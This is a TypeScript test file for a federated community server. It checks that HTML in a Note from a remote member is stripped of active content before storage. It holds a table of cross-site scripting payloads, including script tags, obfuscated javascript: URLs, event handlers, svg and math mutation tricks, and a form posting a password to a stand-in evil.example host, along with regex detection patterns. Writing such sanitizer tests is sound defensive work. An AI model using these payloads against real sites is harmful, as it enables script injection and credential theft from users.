import { eq } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { items } from "../../src/db/schema/index.ts";
import type { ActorRow } from "../../src/domain/actors.ts";
import { findItemByIri, groupsOfItem } from "../../src/domain/items.ts";
import { requestMembership } from "../../src/domain/membership.ts";
import { fetchAndStoreActor } from "../../src/federation/lookup.ts";
import { type FakeActor, type FakePeer, startFakePeer } from "../helpers/fake-peer.ts";
import { startTestInstance, type TestInstance } from "../helpers/instances.ts";
import { drained } from "../helpers/queue-rows.ts";

// A member on another server posts a Note full of markup that would run, track or restyle if
// shown as is. Whatever arrives, what Copse stores in body_html is put on pages unescaped, so
// it must hold none of it, while the harmless text and links around it survive.

/** Each hostile construct, next to a harmless marker that must survive. */
const HOSTILE: Record<string, string> = {
  script: `<p>before script</p><script>alert("script")</script><SCRIPT src="https://evil.example/x.js"></SCRIPT>`,
  "javascript: link": `<p><a href="javascript:alert(1)">js link</a> <a href="JaVaScRiPt:alert(1)">mixed case</a> <a href="  javascript:alert(1)">spaced</a> <a href="jav&#x09;ascript:alert(1)">tab</a> <a href="&#106;avascript:alert(1)">entity</a></p>`,
  "data: link": `<p><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a></p>`,
  "onerror handler": `<p><img src="https://images.example/cat.png" alt="a cat" onerror="alert(1)"><img src=x onerror=alert(1)//></p>`,
  "onclick handler": `<p onclick="alert(1)" onmouseover="alert(2)">click text</p>`,
  "svg onload": `<svg onload="alert(1)"><circle r="10"></circle><script>alert(2)</script></svg><p>after svg</p>`,
  iframe: `<iframe src="https://evil.example/frame" srcdoc="<script>alert(1)</script>"></iframe><p>after iframe</p>`,
  "style element": `<style>body { background: url("javascript:alert(1)"); display: none }</style><p>after style</p>`,
  "style attribute": `<p style="position:fixed;top:0;left:0;width:100%;height:100%">styled text</p>`,
  form: `<form action="https://evil.example/steal" method="post"><input type="password" name="pw"><button formaction="javascript:alert(1)">Send</button></form><p>after form</p>`,
  "data: image": `<p><img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+" alt="svg data"></p>`,
  "vbscript: link": `<p><a href="vbscript:msgbox(1)">vb link</a></p>`,
  "css url() tricks": `<div style="background:url(https://tracker.example/pixel.png)">bg text</div><span style="width: expression(alert(1)); background: u&#114;l(javascript:alert(1))">expr text</span><p style="behavior:url(#default#time2)">behavior text</p>`,
  "other active elements": `<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf"><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css"><math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math><p>after objects</p>`,
};

const SAFE = `<p>Safe first line</p><p>A kept paragraph with <strong>bold</strong> and <a href="https://example.org/ok">a normal link</a>.</p>`;
const SURVIVING_TEXT = [
  "Safe first line",
  "A kept paragraph",
  "<strong>bold</strong>",
  "a normal link",
  "before script",
  "js link",
  "data link",
  "click text",
  "after svg",
  "after iframe",
  "after style",
  "styled text",
  "after form",
  "vb link",
  "bg text",
  "expr text",
  "after objects",
];

/** What must not be in stored HTML, each with why. */
const FORBIDDEN: [RegExp, string][] = [
  [/<\s*script/i, "<script>"],
  [/javascript\s*:/i, "javascript: URL"],
  [/vbscript\s*:/i, "vbscript: URL"],
  [/data\s*:/i, "data: URL"],
  [/\son[a-z]+\s*=/i, "on* event handler"],
  [/<\s*svg/i, "<svg>"],
  [/<\s*math/i, "<math>"],
  [/<\s*iframe/i, "<iframe>"],
  [/<\s*(object|embed|base|meta|link)\b/i, "<object>/<embed>/<base>/<meta>/<link>"],
  [/<\s*style/i, "<style>"],
  [/\sstyle\s*=/i, "style= attribute"],
  [/<\s*(form|input|button)\b/i, "<form>/<input>/<button>"],
  [/url\s*\(/i, "CSS url()"],
  [/expression\s*\(/i, "CSS expression()"],
  [/srcdoc|formaction/i, "srcdoc/formaction"],
  [/alert\(/i, "script text"],
];

/** The href and src values of some HTML. */
function urlsIn(html: string): string[] {
  return [...html.matchAll(/\s(?:href|src)\s*=\s*"([^"]*)"/gi)].map((m) => m[1]!);
}

describe("hostile HTML from a remote member", () => {
  let copse: TestInstance;
  let peer: FakePeer;
  let group: ActorRow;
  let mallory: FakeActor;

  beforeAll(async () => {
    [copse, peer] = await Promise.all([startTestInstance("Hostile"), startFakePeer()]);
    const owner = await copse.createUser("hana");
    group = copse.createCommunity("quilters", owner, "public").actor;
    mallory = await peer.addActor({
      path: "/users/mallory",
      type: "Person",
      preferredUsername: "mallory",
    });
    const member = await fetchAndStoreActor(copse.ctx(), mallory.id);
    expect(requestMembership(copse.db, { groupId: group.id, memberId: member.id }).state).toBe(
      "active",
    );
  });
  afterAll(async () => {
    await Promise.all([copse?.close(), peer?.close()]);
  });

  /** A Create{Note} by Mallory to the community, as Mastodon would send it. */
  function createNote(activityId: string, noteId: string, content: string) {
    const note = {
      id: peer.url(noteId),
      type: "Note",
      attributedTo: mallory.id,
      to: ["https://www.w3.org/ns/activitystreams#Public", group.iri],
      cc: [group.followersUrl],
      content,
      published: "2024-05-01T10:00:00Z",
    };
    // The peer serves the note too, in case Copse looks it up at its origin.
    peer.serve(noteId, { "@context": "https://www.w3.org/ns/activitystreams", ...note });
    return {
      "@context": "https://www.w3.org/ns/activitystreams",
      id: peer.url(activityId),
      type: "Create",
      actor: mallory.id,
      to: note.to,
      cc: note.cc,
      object: note,
    };
  }

  async function deliver(activity: unknown): Promise<void> {
    const response = await peer.deliver(group.inboxUrl!, activity, { as: mallory.path });
    expect(response.status).toBe(202);
    await drained(copse.db);
  }

  const noteId = "/notes/hostile-1";
  const content = SAFE + Object.values(HOSTILE).join("\n");

  it("stores the post with every hostile construct removed and the safe text kept", async () => {
    await deliver(createNote("/activities/create-hostile-1", noteId, content));
    const item = findItemByIri(copse.db, peer.url(noteId));
    expect(item, "the post was not stored").toBeDefined();
    expect(item!.kind).toBe("topic");
    expect(item!.title).toBe("Safe first line");
    expect(groupsOfItem(copse.db, item!.id).map((g) => g.iri)).toEqual([group.iri]);
    const html = item!.bodyHtml;
    for (const [pattern, what] of FORBIDDEN) {
      expect(html, `${what} survived sanitizing:\n${html}`).not.toMatch(pattern);
    }
    for (const text of SURVIVING_TEXT) expect(html).toContain(text);
    // Every remaining link and image uses a harmless scheme (relative ones: see below).
    const urls = urlsIn(html);
    expect(urls).toContain("https://example.org/ok");
    expect(urls).toContain("https://images.example/cat.png");
    for (const url of urls) {
      const scheme = /^\s*([a-z][a-z0-9+.-]*):/i.exec(url)?.[1]?.toLowerCase();
      expect([undefined, "http", "https", "mailto"]).toContain(scheme);
    }
    // Links from elsewhere must not pass on ranking or the opener.
    for (const a of html.match(/<a\s[^>]*>/gi) ?? [])
      expect(a).toContain('rel="nofollow ugc noopener"');
  });

  // One case per construct, so a regression names the construct that got through.
  Object.entries(HOSTILE).forEach(([name, snippet], index) => {
    it(`removes ${name} when it is all the post holds`, async () => {
      const id = `/notes/only-${index}`;
      await deliver(
        createNote(`/activities/create-only-${index}`, id, `<p>Title ${index}</p>${snippet}`),
      );
      const item = findItemByIri(copse.db, peer.url(id));
      expect(item, "the post was not stored").toBeDefined();
      for (const [pattern, what] of FORBIDDEN) {
        expect(item!.bodyHtml, `${what} survived: ${item!.bodyHtml}`).not.toMatch(pattern);
      }
      expect(item!.bodyHtml).toContain(`Title ${index}`);
    });
  });

  // Relative URLs in remote HTML would point at Copse itself on a Copse page (`<img
  // src="/logout">` requested with every reader's cookies), so they are resolved against the
  // object's id before it is stored.
  it("does not leave relative links and images pointing at Copse's own pages", async () => {
    const id = "/notes/relative-urls";
    await deliver(
      createNote(
        "/activities/create-relative-urls",
        id,
        `<p>Relative</p><p><img src="/logout" alt="pixel"><img src=x><a href="/signin?next=/admin">sign in</a> <a href="../people/hana">hana</a></p>`,
      ),
    );
    const item = findItemByIri(copse.db, peer.url(id));
    expect(item, "the post was not stored").toBeDefined();
    for (const url of urlsIn(item!.bodyHtml)) expect(url).toMatch(/^(https?:\/\/|mailto:|#)/i);
    expect(item!.bodyHtml).toContain(`href="${peer.url("/signin?next=/admin")}"`);
    expect(item!.bodyHtml).not.toContain(`"${copse.origin}`);
  });

  it("changes nothing when a second Create of the same object arrives", async () => {
    const id = "/notes/twice";
    const first = createNote("/activities/create-twice-1", id, `<p>Original</p>${HOSTILE.script}`);
    await deliver(first);
    const before = findItemByIri(copse.db, peer.url(id));
    expect(before, "the post was not stored").toBeDefined();
    const count = copse.db.select().from(items).all().length;

    // The same activity again (a retried delivery), then a new Create of the same object id
    // with other content: an edit must come as an Update, so both leave the item alone.
    await deliver(first);
    await deliver(
      createNote(
        "/activities/create-twice-2",
        id,
        `<p>Replaced</p><script>alert("again")</script>`,
      ),
    );

    expect(copse.db.select().from(items).all().length).toBe(count);
    const after = copse.db.select().from(items).where(eq(items.id, before!.id)).get();
    expect(after).toEqual(before);
    expect(after!.bodyHtml).toContain("Original");
  });
});
